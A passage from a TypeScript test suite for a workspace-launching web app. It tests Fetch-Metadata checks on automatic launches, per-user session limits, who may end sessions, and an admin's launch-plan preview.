    expect(go.statusCode).toBe(200);
    expect(go.body).toContain('No default workspace is set for you');
    expect(go.body).toContain(`Launch ${other.friendlyName}`);
    const launched = await client.post('/launch', { workspace_id: other.id });
    expect(launched.statusCode).toBe(303);
    expect(
      await t.handle.db.select().from(workspaceSessions).where(eq(workspaceSessions.userId, user.id)),
    ).toHaveLength(1);
    // A disabled default is named.
    await t.handle.db.insert(userSettings).values({ userId: user.id, key: 'default_image', value: other.id });
    await t.handle.db.update(workspaces).set({ enabled: false }).where(eq(workspaces.id, other.id));
    expect((await client.get('/go')).body).toContain(`Your default workspace, ${other.friendlyName}, is disabled`);
    expect((await client.post('/launch', { workspace_id: other.id })).statusCode).toBe(409);
  });

  it.each([
    ['cross-site', { 'sec-fetch-site': 'cross-site' }],
    ['same-site (another app on the domain, an <img>)', { 'sec-fetch-site': 'same-site' }],
    ['no Fetch Metadata (an older browser)', {}],
  ])('/go from %s only offers the button; it starts nothing', async (_from, headers: Record<string, string>) => {
    const { workspace, user } = await member();
    const client = await loggedInClient(t.app, user.username, { visit: null });
    const go = await client.get('/go', headers);
    expect(go.statusCode).toBe(200);
    expect(go.body).toContain('Launch workspace');
    expect(go.body).toContain(`Launch ${workspace.friendlyName}?`);
    expect(await t.handle.db.select().from(workspaceSessions).where(eq(workspaceSessions.userId, user.id))).toEqual([]);
    // The one button launches it.
    expect((await client.post('/launch', { workspace_id: workspace.id })).statusCode).toBe(303);
    expect(
      await t.handle.db.select().from(workspaceSessions).where(eq(workspaceSessions.userId, user.id)),
    ).toHaveLength(1);
  });

  it.each([['same-origin'], ['none']])('/go with Sec-Fetch-Site: %s starts the default workspace', async (site) => {
    const { user } = await member();
    const client = await loggedInClient(t.app, user.username, { visit: null });
    const go = await client.get('/go', { 'sec-fetch-site': site });
    expect(go.statusCode).toBe(303);
    expect(go.headers.location).toMatch(/^\/workspace-sessions\//);
  });

  it('Auto Launch after login lands in the session without a click, even with no Fetch Metadata, once', async () => {
    const { user } = await member([['auto_login_to_kasm', true]]);
    const client = await loggedInClient(t.app, user.username, { visit: null });
    const { landing } = client;
    expect(landing).toBe('/go');
    const go = await client.get('/go'); // the login's redirect, from a browser sending no Fetch Metadata
    expect(go.statusCode).toBe(303);
    expect(go.headers.location).toMatch(/^\/workspace-sessions\//);
    // The login vouched for one /go only: a later untyped request gets the button again.
    const again = await client.get('/go');
    expect(again.statusCode).toBe(200);
    expect(again.body).toContain('Launch workspace');
    expect(
      await t.handle.db.select().from(workspaceSessions).where(eq(workspaceSessions.userId, user.id)),
    ).toHaveLength(1);
  });

  it("refuses a launch beyond max_kasms_per_user; allow_kasm_delete lets the user end their own; an admin ends anyone's", async () => {
    const { user } = await member([
      ['max_kasms_per_user', 1],
      ['allow_kasm_delete', false],
    ]);
    const client = await loggedInClient(t.app, user.username, { visit: null });
    await client.get('/');
    expect((await client.post('/launch', {})).statusCode).toBe(303);
    const refused = await client.post('/launch', {});
    expect(refused.statusCode).toBe(409);
    expect(refused.body).toContain('the most your groups allow (Max Sessions Per User is 1)');
    const [session] = await t.handle.db.select().from(workspaceSessions).where(eq(workspaceSessions.userId, user.id));
    // No Launch button that would fail the same way; the running session instead, and whom to ask to end it.
    expect(refused.body).not.toMatch(/<button[^>]*>Launch/);
    expect(refused.body).not.toContain('action="/launch"');
    expect(refused.body).toContain(`href="/workspace-sessions/${session!.id}"`);
    expect(refused.body).not.toContain(`/workspace-sessions/${session!.id}/end`);
    expect(textContent(refused.body, expectElement(refused.body, 'p', { id: 'ask-to-end' }))).toContain(
      "ask an administrator — anyone who may manage users' sessions — to end one for you.",
    );
    expect(refused.body).toContain('<a href="/profile#workspace-sessions">');
    const profile = await client.get('/profile');
    expect(profile.body).toContain(`/workspace-sessions/${session!.id}`);
    expect(profile.body).not.toContain(`/workspace-sessions/${session!.id}/end`);
    expect((await client.post(`/workspace-sessions/${session!.id}/end`, {})).statusCode).toBe(403);

    // Someone else's session does not exist for a user.
    const stranger = await member();
    const other = await loggedInClient(t.app, stranger.user.username, { visit: null });
    await other.get('/');
    expect((await other.get(`/workspace-sessions/${session!.id}`)).statusCode).toBe(404);
    expect((await other.post(`/workspace-sessions/${session!.id}/end`, {})).statusCode).toBe(404);

    const adminPage = await admin.get(`/admin/users/${user.id}`);
    expect(adminPage.body).toContain(`/workspace-sessions/${session!.id}/end`);
    expect((await admin.post(`/workspace-sessions/${session!.id}/end`, { confirm: 'yes' })).statusCode).toBe(303);
    expect(await t.handle.db.select().from(workspaceSessions).where(eq(workspaceSessions.userId, user.id))).toEqual([]);
    expect((await lastAudit('workspace_session_ended', user.id))!.actorName).toBe('admin');

    await t.handle.db.update(groupSettings).set({ value: true }).where(eq(groupSettings.key, 'allow_kasm_delete'));
    expect((await client.post('/launch', {})).statusCode).toBe(303);
    const [again] = await t.handle.db.select().from(workspaceSessions).where(eq(workspaceSessions.userId, user.id));
    // At the limit with Allow Delete on: End on the "Cannot launch" page, through its confirm step.
    const limit = await client.post('/launch', {});
    expect(limit.statusCode).toBe(409);
    const question = `End the session of ${again!.workspaceName} started ${again!.createdAt.toISOString().slice(0, 16).replace('T', ' ')} UTC?`;
    expectElement(
      limit.body,
      'form',
      {
        method: 'post',
        action: `/workspace-sessions/${again!.id}/end`,
        class: 'inline',
        'hx-confirm': question,
        'hx-vals': '{"confirm": "yes"}',
      },
      { only: true },
    );
    expect(limit.body).not.toContain('ask an administrator');
    const confirm = await client.post(`/workspace-sessions/${again!.id}/end`, {});
    expect(confirm.statusCode).toBe(200);
    expect(confirm.body).toContain(`<h1>${question}</h1>`);
    expect((await client.get(`/workspace-sessions/${again!.id}/end`)).body).toContain(`<h1>${question}</h1>`);
    expect(
      await t.handle.db.select().from(workspaceSessions).where(eq(workspaceSessions.userId, user.id)),
    ).toHaveLength(1); // not yet
    const ended = await client.post(`/workspace-sessions/${again!.id}/end`, { confirm: 'yes' });
    expect(ended.statusCode).toBe(303);
    expect(ended.headers.location).toBe('/profile#workspace-sessions');
    expect((await client.post('/launch', {})).statusCode).toBe(303); // room again
  });

  it('shows on the HTML plan what the JSON plan has: the workspace\'s run config override, and "(default)" for a JSON setting nobody set', async () => {
    const { workspace, user, group } = await member();
    await t.handle.db
      .update(workspaces)
      .set({ runConfigOverride: { shm_size: '1g', hostname: 'kasm' } })
      .where(eq(workspaces.id, workspace.id));
    const json = (
      await admin.get(`/admin/users/${user.id}/launch-plan.json?workspace=${workspace.id}`)
    ).json<LaunchPlan>();
    const page = (await admin.get(`/admin/users/${user.id}/launch-preview?workspace=${workspace.id}`)).body;
    // Every part of the JSON plan's workspace is on the page (the id is in the JSON link).
    const escape = (text: string) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');
    for (const [key, value] of Object.entries(json.workspace)) {
      const text =
        key === 'run_config_override'
          ? JSON.stringify(value, null, 2)
          : key === 'memory_mb'
            ? (value as number).toLocaleString('en-US')
            : String(value);
      expect(page, key).toContain(escape(text));
    }
    expect(page).toMatch(
      /<dt>Docker Run Config Override<\/dt><dd id="plan-run-config-override"><pre><code>\{\n {2}&quot;/,
    );
    expect(page).toContain('&quot;shm_size&quot;: &quot;1g&quot;');
    // Every JSON setting at its empty default reads "(default)", never a bare {} as if set.
    const defaults = json.settings.filter(
      (s) =>
        s.source === 'default' && typeof s.value === 'object' && s.value !== null && Object.keys(s.value).length === 0,
    );
    expect(defaults.map((s) => s.key)).toContain('run_config');
    /** The cells of a setting's row, as markup without the whitespace between tags. */
    const settingRow = (html: string, key: string) => {
      const row = expectElement(html, 'tr', { id: `plan-setting-${key}` }, { only: true });
      return innerHtml(html, row).replace(/>\s+</g, '><');
    };
    for (const s of defaults) {
      expect(settingRow(page, s.key), s.key).toBe(
        `<th scope="row"><code>${s.key}</code></th><td>(default)</td><td>default</td>`,
      );
    }
    expect(page).not.toContain('<code>{}</code>');
    // A group's run config is shown as set, with its group; an empty override says so.
    await t.handle.db
      .insert(groupSettings)
      .values({ groupId: group.id, key: 'run_config', value: { cpu_shares: 512 } });
    await t.handle.db.update(workspaces).set({ runConfigOverride: {} }).where(eq(workspaces.id, workspace.id));
    const set = (await admin.get(`/admin/users/${user.id}/launch-preview?workspace=${workspace.id}`)).body;
    expect(settingRow(set, 'run_config')).toBe(
      `<th scope="row"><code>run_config</code></th><td><code>{&quot;cpu_shares&quot;:512}</code></td><td>group ${group.name}</td>`,
    );
    expect(set).toContain('<dd id="plan-run-config-override">None (the workspace sets no override)</dd>');
  });

  it('previews the plan for a user without recording anything, as a page and as JSON', async () => {
    const { workspace, user } = await member();
    const other = await createWorkspace();
    await addMapping(`/admin/workspaces/${other.id}`, { name: 'Other file', destination_path: '/o', content: 'o' });
    const preview = await admin.get(`/admin/users/${user.id}/launch-preview`);
    expect(preview.statusCode).toBe(200);
    expect(preview.body).toContain(`Preview launch for ${user.username}`);
    expect(preview.body).toContain(`<dt>Workspace</dt><dd>${workspace.friendlyName}</dd>`);
    const chosen = await admin.get(`/admin/users/${user.id}/launch-preview?workspace=${other.id}`);
    expect(chosen.body).toContain('Other file');
    const json = await admin.get(`/admin/users/${user.id}/launch-plan.json?workspace=${other.id}`);
    expect(json.headers['content-type']).toMatch(/^application\/json/);
    const plan = json.json<LaunchPlan>();
    expect(plan.file_mappings).toEqual([
      expect.objectContaining({ destination_path: '/o', content_base64: Buffer.from('o').toString('base64') }),
    ]);
    expect(await t.handle.db.select().from(workspaceSessions).where(eq(workspaceSessions.userId, user.id))).toEqual([]);
    const missing = await admin.get(`/admin/users/${user.id}/launch-plan.json?workspace=${crypto.randomUUID()}`);
    expect(missing.statusCode).toBe(404);
    expect(missing.json()).toEqual({ error_message: 'That workspace no longer exists.' });
  });
});
